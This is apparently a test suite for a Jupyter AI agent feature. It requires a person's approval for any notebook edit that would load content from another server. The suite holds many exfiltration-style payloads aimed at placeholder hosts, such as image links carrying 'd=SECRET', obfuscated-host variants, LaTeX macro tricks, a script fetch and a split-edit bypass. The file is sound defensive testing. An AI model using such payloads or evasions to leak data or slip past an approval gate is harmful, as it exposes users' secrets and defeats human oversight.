"""Edits that would make a page send a request to another server: a person decides, each time.

`remote_content.json` has the attacks, by how they load, and texts that load nothing. `HOST` in them
is a foreign server. `tests/ui/test_remote_content.py` watches a browser with them.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from tests.fakes import FakeAnthropic, calls, says
from tests.fakes.script import FakeReply
from tests.server.conftest import Call, ask

CORPUS = json.loads((Path(__file__).parent / "remote_content.json").read_text(encoding="utf-8"))
LOADS: dict[str, list[str]] = CORPUS["loads"]
QUIET: list[str] = CORPUS["loads nothing"]
HOST = "host.example"
PATH = "n.ipynb"
PICTURE = "![ ](http://host.example/p?d=SECRET)"
ADDRESS = "http://host.example/p?d=SECRET"
TRAIT = "allow_remote_content"


@pytest.fixture
def path(jp_root_dir: Path) -> Path:
    return jp_root_dir / PATH


@pytest.fixture
def blank(path: Path) -> Path:
    """A Markdown cell `m`, a raw cell `r` and a code cell `c` that loads something if retyped."""
    cells = [
        new_markdown_cell("words", id="m"),
        nbformat.v4.new_raw_cell("words", id="r"),
        new_code_cell(f"# {PICTURE}", id="c"),
    ]
    nbformat.write(new_notebook(cells=cells), path)
    return path


def sources(path: Path) -> list[str]:
    return [cell.source for cell in nbformat.read(path, as_version=4).cells]


async def use(call: Call, tool: str, *, mode: str = "auto", **input: Any) -> Any:
    """A tool over REST, as used by a script or another agent."""
    body = {"notebook": PATH, "mode": mode, "input": input}
    return (await call("POST", "tools", tool, body=body)).body


def test_the_corpus_is_large() -> None:
    assert sum(map(len, LOADS.values())) >= 430
    assert len(QUIET) >= 70


@pytest.mark.sample(8)
@pytest.mark.parametrize("group", LOADS)
@pytest.mark.parametrize("type", ["markdown", "raw"])
async def test_what_loads_something_is_not_done_without_a_person(
    call: Call, blank: Path, group: str, type: str
) -> None:
    before = blank.read_bytes()
    done = []
    for text in LOADS[group]:
        answer = await use(call, "create_cell", type=type, source=text.replace("HOST", HOST))
        if answer.get("reason") != "needs_approval":
            done.append(text)
    assert done == []
    assert blank.read_bytes() == before


@pytest.mark.full
async def test_what_loads_nothing_is_done_at_once(call: Call, blank: Path) -> None:
    refused = []
    for text in QUIET:
        source = text.replace("HOST", HOST)
        answer = await use(call, "create_cell", mode="edit", type="markdown", source=source)
        if answer["is_error"]:
            refused.append((text, answer["text"]))
    assert refused == []
    assert len(sources(blank)) == 3 + len(QUIET)


async def test_code_is_code_whatever_it_would_show_when_it_runs(call: Call, blank: Path) -> None:
    answer = await use(call, "create_cell", mode="edit", source=f"%%markdown\n{PICTURE}")
    assert not answer["is_error"], answer


EDITS: dict[str, tuple[str, dict[str, Any]]] = {
    "a new cell": ("create_cell", {"type": "markdown", "source": PICTURE}),
    "a word": ("update_cell", {"cell_id": "m", "old_string": "words", "new_string": PICTURE}),
    "a raw cell": ("update_cell", {"cell_id": "r", "old_string": "words", "new_string": PICTURE}),
    "another type": ("update_cell", {"cell_id": "c", "type": "markdown"}),
    "another type and text": (
        "update_cell",
        {"cell_id": "c", "type": "raw", "old_string": "# ", "new_string": ""},
    ),
}


@pytest.mark.sample(8)
@pytest.mark.parametrize("edit", EDITS)
@pytest.mark.parametrize("mode", ["read", "ask", "edit", "auto"])
async def test_every_way_to_write_it_is_refused_with_the_address_and_the_trait(
    call: Call, blank: Path, edit: str, mode: str
) -> None:
    tool, input = EDITS[edit]
    answer = await use(call, tool, mode=mode, **input)
    assert answer["is_error"]
    if mode == "read":
        assert answer["reason"] == "denied"
    else:
        assert answer["reason"] == "needs_approval"
        assert ADDRESS in answer["text"]
        assert TRAIT in answer["text"]
        assert "allow`" not in answer["text"]  # it would not help
    assert sources(blank) == ["words", "words", f"# {PICTURE}"]


async def test_a_whole_rewrite_of_a_cell_that_was_read_is_asked_about_too(
    call: Call, blank: Path
) -> None:
    await use(call, "read_cells", cell_ids=["m"])
    answer = await use(call, "update_cell", cell_id="m", source=f"words\n\n{PICTURE}")
    assert answer["reason"] == "needs_approval"


async def test_what_two_edits_make_together_is_asked_about(call: Call, blank: Path) -> None:
    half = {"cell_id": "m", "old_string": "words", "new_string": "! [ ](http://host.example/p)"}
    assert not (await use(call, "update_cell", **half))["is_error"]
    rest = {"cell_id": "m", "old_string": "! [", "new_string": "!["}
    assert (await use(call, "update_cell", **rest))["reason"] == "needs_approval"


async def test_neither_allow_nor_a_rule_of_the_caller_lets_it_pass(call: Call, blank: Path) -> None:
    body = {"notebook": PATH, "mode": "auto", "allow": ["create_cell"]}
    body["input"] = {"type": "markdown", "source": PICTURE}
    assert (await call("POST", "tools", "create_cell", body=body)).body["is_error"]


KNOWN = {
    "markdown": [
        "![a](http://HOST/p)",
        "Words ![a](https://HOST/p?x=1 'title') and [a link](http://elsewhere.example/).",
        "[![a](//HOST/p)](page.html)",
        "<img src='http://HOST/p' width=\"100\">",
        "<table><tr>\n    <td><a href='x'><img src='//HOST/p'/></a></td>\n</tr></table>",
        "![a](HTTP://HOST/p)\n\n```\ncode\n```",
        "`code` and $x$\n\n![a](http://HOST/p)",
    ],
}
NOT_KNOWN = {
    "code": ["# ![a](http://HOST/p)"],
    "raw": ["![a](http://HOST/p)", "<img src='http://HOST/p'>"],
    "markdown": [
        "[a](http://HOST/p)",
        "http://HOST/p",
        "`![a](http://HOST/p)`",
        "`` ` ![a](http://HOST/p) ``",
        "```\n![a](http://HOST/p)\n```",
        "~~~\n\n![a](http://HOST/p)\n\n~~~",
        "- ```\n\n  ![a](http://HOST/p)",
        "    ![a](http://HOST/p)",
        "\t![a](http://HOST/p)",
        "<!-- ![a](http://HOST/p) -->",
        "<!--\n\n![a](http://HOST/p)\n\n-->",
        "<!-- <img src='http://HOST/p'> -->",
        "<pre>\n\n![a](http://HOST/p)\n\n</pre>",
        "<textarea><img src='http://HOST/p'></textarea>",
        "<select><img src='http://HOST/p'></select>",
        "<div>\n![a](http://HOST/p)\n</div>",
        "<b title='![a](http://HOST/p)'>",
        "$![a](http://HOST/p)$",
        "\\\\(![a](http://HOST/p)\\\\)",
        "\\begin{a}![a](http://HOST/p)\\end{a}",
        "\\![a](http://HOST/p)",
        "![b ![a](http://HOST/p) c](x.png)",
        "![<img src='http://HOST/p'>](x.png)",
        "[a](x \"<img src='http://HOST/p'>\")",
        "[a]: ![a](http://HOST/p)",
        "<div title='\n\n![a](http://HOST/p)\n\n'>",
        "$ <div title='\n\n![a](http://HOST/p)\n\n'>",
        "-     ![a](http://HOST/p)",
        "- a\n-     ![a](http://HOST/p)",
        ">     ![a](http://HOST/p)",
        "> $\n>\n> ![a](http://HOST/p)\n>\n> $",
        "a|b\n-|-\n1|2|![a](http://HOST/p)",
        "http://elsewhere.example/![a](http://HOST/p)",
        "www.elsewhere.example/?[![a](http://HOST/p)",
        "![a](http://HOST\\.elsewhere.example/p)",
        "![a](http://HOST&period;elsewhere.example/p)",
        "![a](http://HOST@elsewhere.example/p)",
        "![a](x.png?http://HOST/p)",
        "![a][b]\n\n[b]: http://HOST/p",
        "<p style='background:url(http://HOST/p)'>a</p>",
        "<iframe src='http://HOST/p'></iframe>",
    ],
}
CONFUSED = [
    "![a](http://HOST\\.evil.example/p)",
    "![a](http://HOST&period;evil.example/p)",
    "![a](http://HOST\\@evil.example/p)",
    "![a](http://HOST@evil.example/p)",
    "![a](http://HOST%40evil.example/p)",
    "![a](http://HOST:80@evil.example/p)",
    "![a](http://HOST:x@evil.example/p)",
    "![a](http://HOST;@evil.example/p)",
    "![a](http://HOST,@evil.example/p)",
    "![a](http://HOST(b)@evil.example/p)",
    '<img src="http://HOST\'@evil.example/p">',
    '<img src="http://HOST)@evil.example/p">',
    '<img src="http://HOST\n.evil.example/p">',
    '<img src="http://HOST&Tab;.evil.example/p">',
    '<img src="http://HOST\u00ad.evil.example/p">',
    '<p style="background:url(http://HOST\\2e evil.example/p)">a</p>',
    "![a](//evil.example//HOST/p)",
    "![a](http:\\/\\/evil.example//HOST/p)",
    "![a](/\\/evil.example//HOST/p)",
    '<img src="/&sol;evil.example//HOST/p">',
    '<img src="/\n/evil.example//HOST/p">',
    "![a](http://HOST\uff0eevil.example/p)",
    "$\\let\\u\\unicode{}\\u[a;background:url(http://HOST/p)]{x41}$",
    "![a](http://HOST/p) <script>fetch(x)</script>",
]


def with_hosts(table: dict[str, list[str]]) -> dict[str, Any]:
    """Host -> a cell with it, for each text of the table."""
    types = {
        "code": new_code_cell, "raw": nbformat.v4.new_raw_cell, "markdown": new_markdown_cell,
    }  # fmt: skip
    texts = [(type, text) for type in table for text in table[type]]
    hosts = [f"h{number}.example" for number in range(len(texts))]
    return {
        host: types[type](text.replace("HOST", host), id=host.partition(".")[0])
        for host, (type, text) in zip(hosts, texts, strict=True)
    }


async def test_a_host_that_the_notebook_asks_already_is_no_question(call: Call, path: Path) -> None:
    cells = with_hosts(KNOWN)
    nbformat.write(new_notebook(cells=list(cells.values())), path)
    for host, cell in cells.items():
        source = f"<img src=//{host.upper()}/b> ![a](http://{host}/c?d=SECRET)"
        answer = await use(call, "create_cell", type="markdown", source=source)
        assert not answer["is_error"], cell.source
    for tool, input in (
        ("update_cell", {"cell_id": "h0", "old_string": "![a]", "new_string": "![our logo]"}),
        ("move_cell", {"cell_id": "h0", "after": "h1"}),
        ("delete_cell", {"cell_id": "h0"}),
    ):
        assert not (await use(call, tool, mode="edit", **input))["is_error"], tool


async def test_a_host_is_known_only_by_what_surely_loads(call: Call, path: Path) -> None:
    cells = with_hosts(NOT_KNOWN)
    nbformat.write(new_notebook(cells=list(cells.values())), path)
    done = []
    for host, cell in cells.items():
        source = f"![](http://{host}/p)"
        answer = await use(call, "create_cell", type="markdown", source=source)
        if answer.get("reason") != "needs_approval":
            done.append(cell.source)
    assert done == []


async def test_a_host_is_the_same_only_if_each_reader_sees_the_same(call: Call, path: Path) -> None:
    cells = [new_markdown_cell(PICTURE)]
    nbformat.write(new_notebook(cells=cells), path)
    done = []
    for text in CONFUSED:
        source = text.replace("HOST", HOST)
        answer = await use(call, "create_cell", type="markdown", source=source)
        if answer.get("reason") != "needs_approval":
            done.append(text)
    assert done == []


async def test_however_long_an_address_is_its_host_is_shown(call: Call, blank: Path) -> None:
    for before, after in (("http://", "/p?" + "x" * 5_000), ("//" + "x" * 5_000 + "@", "/p")):
        source = f"![a]({before}{HOST}{after})"
        answer = await use(call, "create_cell", type="markdown", source=source)
        assert HOST in answer["text"]


@pytest.mark.parametrize(
    ("defined", "asks"),
    [
        (r"$\def\a#1{\unicode[x;background:url(//host.example/#1)]{x41}}$", True),
        (r"$\let\a\unicode$", True),
        (r"$\expandafter\let\expandafter\a\csname uni code\endcsname$", True),
        (r"$\newcommand{\a}[1]{\mathbb{#1}}$", False),
        ("A [link](http://host.example) and $x$", False),
    ],
)
async def test_a_formula_is_asked_about_where_another_cell_may_have_turned_its_commands(
    call: Call, path: Path, defined: str, asks: bool
) -> None:
    nbformat.write(new_notebook(cells=[new_markdown_cell(defined, id="m")]), path)
    for source in (r"$\a{secret}$", r"So $$\frac{secret}{1}$$"):
        answer = await use(call, "create_cell", mode="edit", type="markdown", source=source)
        assert answer["is_error"] == asks, answer
    words = await use(call, "create_cell", mode="edit", type="markdown", source="Only $x$.")
    assert not words["is_error"]


async def test_a_person_edits_what_they_like(call: Call, blank: Path) -> None:
    body = {"source": PICTURE, "type": "markdown"}
    assert (await call("POST", "notebooks", PATH, "cells", body=body)).status == 201
    assert PICTURE in sources(blank)


async def test_of_a_hidden_cell_nothing_is_told_by_the_question(call: Call, path: Path) -> None:
    hidden = new_markdown_cell("secret", id="h", metadata={"tags": ["agent-hidden"]})
    nbformat.write(new_notebook(cells=[hidden]), path)
    told = {
        (await use(call, "update_cell", cell_id="h", old_string=guess, new_string=PICTURE))["text"]
        for guess in ("secret", "wrong")
    }
    assert len(told) == 1


async def asked(call: Call, mode: str, **more: Any) -> Any:
    """The turn's state after a question, with the open approvals."""
    body = ask("Go.", mode=mode, stream=False, notebook=PATH, **more)
    return (await call("POST", "chat", body=body)).body


async def answered(call: Call, approval: dict[str, Any], **reply: Any) -> Any:
    body = {"approvals": [{"id": approval["id"], "approved": True, **reply}], "wait": 60}
    return (await call("POST", "chat", "talk", "approvals", body=body)).body


WRITE = calls("create_cell", type="markdown", source=PICTURE)


@pytest.mark.parametrize("mode", ["ask", "edit", "auto"])
async def test_a_person_is_asked_in_every_mode_and_is_told_the_address(
    call: Call, replies: list[FakeReply], blank: Path, mode: str
) -> None:
    replies += [[WRITE], [says("Added.")]]
    waiting = await asked(call, mode)
    (approval,) = waiting["approvals"]
    assert approval["loads"] == [ADDRESS]
    (notice,) = [
        part["data"]
        for part in waiting["message"]["parts"]
        if part["type"] == "data-notice" and part["data"]["kind"] == "approval"
    ]
    assert ADDRESS in notice["text"]
    assert notice["approval"]["loads"] == [ADDRESS]
    assert PICTURE not in sources(blank)
    assert (await answered(call, approval))["state"] == "done"
    assert PICTURE in sources(blank)


@pytest.mark.parametrize("remember", ["conversation", "turn"])
async def test_what_is_allowed_for_longer_never_covers_it(
    call: Call, replies: list[FakeReply], blank: Path, remember: str
) -> None:
    sources_asked = ["plain", "plain", PICTURE, "<img src=//other.example/x>"]
    replies += [[calls("create_cell", type="markdown", source=each)] for each in sources_asked]
    replies.append([says("As you like.")])
    (first,) = (await asked(call, "ask"))["approvals"]
    assert "loads" not in first
    (approval,) = (await answered(call, first, remember=remember))["approvals"]
    assert approval["loads"] == [ADDRESS]
    assert sources(blank).count("plain") == 2
    (other,) = (await answered(call, approval, remember=remember))["approvals"]
    assert other["loads"] == ["//other.example/x"]
    await answered(call, other, approved=False)
    assert sources(blank)[3:] == ["plain", "plain", PICTURE]


async def test_two_edits_of_a_step_that_load_are_each_done_as_allowed(
    call: Call, replies: list[FakeReply], blank: Path
) -> None:
    change = calls("update_cell", cell_id="m", old_string="words", new_string=PICTURE)
    more = calls("update_cell", cell_id="m", old_string="![ ]", new_string="![the picture]")
    replies += [[change, more, WRITE], [says("Done.")]]
    approvals = (await asked(call, "ask"))["approvals"]
    assert [approval.get("loads") for approval in approvals] == [
        [ADDRESS],
        None,
        None,
    ]  # known once the first has run
    body = {"approvals": [{"id": each["id"], "approved": True} for each in approvals], "wait": 60}
    await call("POST", "chat", "talk", "approvals", body=body)
    assert sources(blank)[0] == PICTURE.replace("![ ]", "![the picture]")
    assert PICTURE in sources(blank)


async def test_an_edit_that_loads_only_since_it_was_approved_is_not_done(
    call: Call, replies: list[FakeReply], fake: FakeAnthropic, blank: Path
) -> None:
    formula = r"$\a{secret}$"
    replies += [[calls("create_cell", type="markdown", source=formula)], [says("I see.")]]
    (approval,) = (await asked(call, "ask"))["approvals"]
    assert "loads" not in approval
    defined = {"source": r"$\def\a#1{\unicode[a;background:url(#1)]{x41}}$", "type": "markdown"}
    assert (await call("POST", "notebooks", PATH, "cells", body=defined)).status == 201
    await answered(call, approval)
    assert formula not in sources(blank)
    assert "What was approved has changed since" in str(fake.requests[-1]["messages"][-1])


async def test_an_edit_that_loads_only_after_another_of_its_step_is_not_done_unasked(
    call: Call, replies: list[FakeReply], blank: Path
) -> None:
    half = calls("update_cell", cell_id="m", old_string="words", new_string="! [](//host.example)")
    rest = calls("update_cell", cell_id="m", old_string="! [", new_string="![")
    replies += [[half, rest], [says("As you like.")]]
    (approval,) = (await asked(call, "edit"))["approvals"]
    assert approval["loads"] == ["//host.example"]
    await answered(call, approval, approved=False)
    assert sources(blank)[0] == "! [](//host.example)"


class TestUnattended:
    """Questions expire after a second."""

    @pytest.fixture
    def jp_server_config(self, jp_server_config: dict[str, Any]) -> dict[str, Any]:
        jp_server_config["JupyterAgent"]["approval_seconds"] = 1
        return jp_server_config

    @pytest.mark.full
    async def test_where_nobody_answers_the_model_learns_who_could(
        self,
        call: Call,
        replies: list[FakeReply],
        fake: FakeAnthropic,
        blank: Path,
    ) -> None:
        replies += [[WRITE], [says("Nobody is there.")]]
        body = ask("Go.", mode="auto", stream=True, notebook=PATH)
        await call("POST", "chat", body=body)
        assert TRAIT in str(fake.requests[-1]["messages"][-1])
        assert PICTURE not in sources(blank)


class TestAllowed:
    """The administrator has set `allow_remote_content`."""

    @pytest.fixture
    def jp_server_config(self, jp_server_config: dict[str, Any]) -> dict[str, Any]:
        jp_server_config["JupyterAgent"][TRAIT] = True
        return jp_server_config

    async def test_mode_auto_does_it_and_the_other_modes_ask(self, call: Call, blank: Path) -> None:
        for mode in ("ask", "edit"):
            answer = await use(call, "create_cell", mode=mode, type="markdown", source=PICTURE)
            assert answer["reason"] == "needs_approval"
        answer = await use(call, "create_cell", type="markdown", source=PICTURE)
        assert not answer["is_error"]
        assert PICTURE in sources(blank)


def floods() -> Iterator[str]:
    """Texts on which a careless search takes minutes."""
    pieces = [
        "<a ",
        "![",
        "](",
        "[a![b](c)",
        "![a]",
        "<a x='",
        "\\unicode",
        "```mermaid\n",
        "<style",
    ]
    pieces += ["![a][b]", "![a](", "[b]: //x\n", "$\\x ", '[a](b "', "<a b='c' ", "http:", "&sol;"]
    pieces += ["<style>/*", "data:", "<b style=data:", "&#", "> ", "\n \n", "<script", "\\style"]
    for piece in pieces:
        yield piece * (300_000 // len(piece))
    yield "![a][b]" * 20_000 + "\n[b]: //x" * 20_000


@pytest.mark.full
async def test_no_text_holds_the_server_up(call: Call, blank: Path) -> None:
    for text in floods():
        began = time.process_time()
        await use(call, "create_cell", mode="read", type="markdown", source=text)
        await use(call, "create_cell", type="markdown", source=f"{text}\n\n{PICTURE}")
        assert time.process_time() - began < 10, text[:20]
